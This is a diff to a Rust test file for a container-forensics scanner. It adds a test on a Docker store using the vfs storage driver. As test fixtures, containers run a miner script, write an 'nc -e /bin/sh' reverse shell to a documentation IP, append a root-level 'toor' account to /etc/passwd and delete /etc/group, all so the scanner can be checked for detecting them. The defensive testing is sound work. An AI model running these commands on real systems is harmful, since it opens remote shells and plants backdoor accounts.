@@ -1,6 +1,6 @@
 //! Engine stores read in place: a Docker data root written by a real dockerd (containers that
 //! drop a miner, add a cron reverse shell, delete a file, carry a key in their environment,
-//! mount the host's /etc), and data roots built in code to check what integrity checks say
+//! mount the host's /etc; overlay2 and vfs drivers), and data roots built in code to check what integrity checks say
 //! when a layer directory changes after the pull.
 
 mod common;
@@ -27,8 +27,8 @@ struct Dockerd {
 
 impl Dockerd {
     /// None, with the reason printed, when there is no dockerd to run (CI installs docker.io:
-    /// .ci/run).
-    fn start() -> Option<Dockerd> {
+    /// .ci/run). `driver`: the storage driver (overlay2, vfs).
+    fn start(driver: &str) -> Option<Dockerd> {
         let found = |program: &str| Command::new(program).arg("--version").stdout(Stdio::null()).stderr(Stdio::null()).status().is_ok();
         if !found("dockerd") || !found("docker") {
             eprintln!(
@@ -53,7 +53,8 @@ impl Dockerd {
             .arg(d.join("dockerd.pid"))
             .arg("--host")
             .arg(format!("unix://{}", d.join("docker.sock").display()))
-            .args(["--iptables=false", "--ip-masq=false", "--bridge=none", "--storage-driver=overlay2"])
+            .args(["--iptables=false", "--ip-masq=false", "--bridge=none"])
+            .arg(format!("--storage-driver={driver}"))
             .arg("--add-runtime")
             .arg(format!("nosysres={}", wrapper.display()))
             .stdin(Stdio::null())
@@ -208,7 +209,7 @@ rm -f /etc/group && echo 'service started' > /tmp/app.log";
 
 #[test]
 fn a_store_written_by_dockerd_shows_each_containers_runtime_changes() {
-    let Some(mut engine) = Dockerd::start() else { return };
+    let Some(mut engine) = Dockerd::start("overlay2") else { return };
     let sample = common::repo_path("samples/webapp.docker.tar");
     engine.docker(&["load", "-i", sample.to_str().unwrap()]);
     engine.docker(&[
@@ -604,6 +605,142 @@ fn layer_file(store: &Path, relative: &str) -> PathBuf {
     found.sort();
     assert!(!found.is_empty(), "no layer holds {relative}");
     found.remove(0)
+}
+
+// ---------------------------------------------------------------- a real dockerd, vfs driver
+
+/// dive's 14-layer busybox image (files added, copied, moved, chmod'ed, a directory removed):
+/// with vfs, each layer a whole copy of the filesystem.
+const DIVE_IMAGE: &str = "wagoodman-dive/test-docker-image.tar";
+
+/// The miner's script, and a file of the image changed (a reverse shell) and another appended to.
+fn vfs_miner_script() -> String {
+    format!("{MINER_SCRIPT} && printf '#!/bin/sh\\nnc -e /bin/sh 198.51.100.23 4444\\n' > /root/.data/test.sh && echo 'toor:x:0:0::/root:/bin/sh' >> /etc/passwd")
+}
+
+#[test]
+fn a_vfs_store_written_by_dockerd_shows_each_layers_changes_and_each_containers() {
+    let Some(mut engine) = Dockerd::start("vfs") else { return };
+    engine.docker(&["load", "-i", common::fixtures_dir().join(DIVE_IMAGE).to_str().unwrap()]);
+    let script = vfs_miner_script();
+    let run = |name: &str, env: &[&str], script: &str| {
+        let mut args = vec!["run", "--network", "none", "--name", name];
+        args.extend_from_slice(env);
+        args.extend_from_slice(&["--entrypoint", "/bin/sh", "dive-test:latest", "-c", script]);
+        engine.docker(&args);
+    };
+    run("miner", &["-e", "AWS_ACCESS_KEY_ID=AKIAQ3EGRTLK7MZW4VXN"], &script);
+    run("quiet", &[], "echo 'service started' > /tmp/app.log");
+    engine.stop();
+    let store = engine.data_root();
+    // LAYERHOUND_SAVE_VFS_STORE=FILE keeps this store as tests/data/docker-vfs-store.tar.xz is made.
+    if let Some(file) = std::env::var_os("LAYERHOUND_SAVE_VFS_STORE") {
+        let status = Command::new("tar")
+            .env("XZ_OPT", "-9")
+            .args(["--sort=name", "-cJf"])
+            .arg(&file)
+            .arg("-C")
+            .arg(&store)
+            .args(["image", "vfs/dir", "containers"])
+            .status()
+            .unwrap();
+        assert!(status.success());
+    }
+    check_vfs_store(&store);
+}
+
+/// The same store, made once by the live test (LAYERHOUND_SAVE_VFS_STORE) and kept. Unpacking
+/// it needs root (the files' owners are part of each layer).
+#[test]
+fn the_kept_vfs_store_shows_the_same() {
+    if std::fs::metadata("/proc/self").map(|m| m.uid()).unwrap_or(1) != 0 {
+        eprintln!("SKIPPED: unpacking tests/data/docker-vfs-store.tar.xz needs root (the layers' files are owned by root)");
+        return;
+    }
+    let dir = tempfile::tempdir().unwrap();
+    let status = Command::new("tar")
+        .arg("-xJf")
+        .arg(common::repo_path("tests/data/docker-vfs-store.tar.xz"))
+        .arg("-C")
+        .arg(dir.path())
+        .status()
+        .unwrap();
+    assert!(status.success(), "tar unpacks the kept store");
+    check_vfs_store(dir.path());
+}
+
+/// What the vfs scenario (miner, quiet) must show in its store at `store`; then that a copy
+/// changed after the pull is named, even with its size and mtime put back.
+fn check_vfs_store(store: &Path) {
+    let before = snapshot(store);
+    let report = scan(store);
+    assert_unchanged(store, &before);
+    let input = &report["inputs"][0];
+    assert_eq!(input["format"], json!(["docker-store"]), "{:#}", input["errors"]);
+    assert!(input["errors"].as_array().unwrap().is_empty(), "{:#}", input["errors"]);
+    assert!(input["anomalies"].as_array().unwrap().iter().all(|a| a["kind"] == "engine-store"), "{:#}", input["anomalies"]);
+    let dive = image_named(&report, "dive-test:latest");
+    assert_eq!(dive["verified"], true, "every layer's changes reassemble to its diff_id: {:#}", dive["anomalies"]);
+    // Each layer told from its copy and the copy below stacks up to the tarball's tree.
+    let evidence = common::open(store);
+    let analysis = common::analyse(&evidence);
+    let expected = common::read_lines(&common::fixtures_dir().join(format!("{DIVE_IMAGE}.tree.tsv")));
+    common::assert_same_tree(&common::tree_lines(&analysis, 0), &expected, "dive-test from its vfs copies");
+
+    let miner = image_named(&report, "container/miner");
+    assert_eq!((&miner["container"]["name"], &miner["container"]["image_refs"]), (&json!("miner"), &json!(["dive-test:latest"])));
+    let writable = miner["container"]["writable_layer"].as_u64().unwrap();
+    let seen = sightings(miner);
+    let has = |detector: &str, place: &str, runtime: &str| {
+        seen.iter().any(|(d, p, state, r, _)| d == detector && p == place && state == "present" && r == runtime)
+    };
+    assert!(has("layerhound:reverse_shell_dev_tcp", "/etc/cron.d/sync", "added"), "{seen:#?}");
+    assert!(has("ioc:mining-pool", "/tmp/.x/run.sh", "added"), "{seen:#?}");
+    assert!(seen.iter().any(|(_, p, state, r, _)| p == "/root/.data/test.sh" && state == "present" && r == "changed"), "{seen:#?}");
+    let hidden = |path: &str| {
+        let version = miner["hidden_versions"].as_array().unwrap().iter().find(|v| v["path"] == path);
+        version.map(|v| (v["state"].as_str().unwrap().to_string(), v["by_layer"].as_u64().unwrap()))
+    };
+    assert_eq!(hidden("/etc/group"), Some(("deleted".into(), writable)), "deleted at runtime");
+    assert_eq!(hidden("/etc/passwd"), Some(("overwritten".into(), writable)), "changed at runtime");
+    let quiet = sightings(image_named(&report, "container/quiet"));
+    assert!(!quiet.iter().any(|(_, place, ..)| place == "/tmp/app.log"), "the benign log file is no finding: {quiet:#?}");
+
+    // The top layer's copy is what a new container starts from: a file of it changed in place,
+    // same size, mtime put back, is found by its bytes.
+    let top = vfs_top_layer_dir(store);
+    let passwd = top.join("etc/passwd");
+    let original = std::fs::read(&passwd).unwrap();
+    let mtime = std::fs::metadata(&passwd).unwrap().modified().unwrap();
+    let mut bytes = original.clone();
+    bytes[0] ^= 0x20;
+    std::fs::write(&passwd, &bytes).unwrap();
+    std::fs::File::options().write(true).open(&passwd).unwrap().set_modified(mtime).unwrap();
+    let report = scan(store);
+    let changed = anomalies(&report, "store-layer-changed");
+    assert_eq!(changed.len(), 1, "{changed:?}");
+    assert!(changed[0].contains("/etc/passwd") && changed[0].contains("not in the pulled layer"), "{}", changed[0]);
+    assert_eq!(image_named(&report, "dive-test:latest")["verified"], false);
+    std::fs::write(&passwd, &original).unwrap();
+    std::fs::File::options().write(true).open(&passwd).unwrap().set_modified(mtime).unwrap();
+    // A file planted in it is read as a container would see it.
+    std::fs::write(top.join("root/.data/backdoor.sh"), b"#!/bin/sh\nnc -e /bin/sh 198.51.100.23 4444\n").unwrap();
+    let report = scan(store);
+    let changed = anomalies(&report, "store-layer-changed");
+    assert_eq!(changed.len(), 1, "{changed:?}");
+    assert!(changed[0].contains("/root/.data/backdoor.sh"), "{}", changed[0]);
+    let dive = sightings(image_named(&report, "dive-test:latest"));
+    assert!(dive.iter().any(|(_, place, ..)| place == "/root/.data/backdoor.sh"), "{dive:#?}");
+}
+
+/// The vfs copy of the image's top layer: the layer a container's mount names as its parent.
+fn vfs_top_layer_dir(store: &Path) -> PathBuf {
+    let mounts = store.join("image/vfs/layerdb/mounts");
+    let mount = std::fs::read_dir(&mounts).unwrap().next().unwrap().unwrap().path();
+    let parent = std::fs::read_to_string(mount.join("parent")).unwrap();
+    let layerdb = store.join("image/vfs/layerdb/sha256").join(parent.trim().trim_start_matches("sha256:"));
+    let cache_id = std::fs::read_to_string(layerdb.join("cache-id")).unwrap();
+    store.join("vfs/dir").join(cache_id.trim())
 }
 
 // ---------------------------------------------------------------- stores built in code
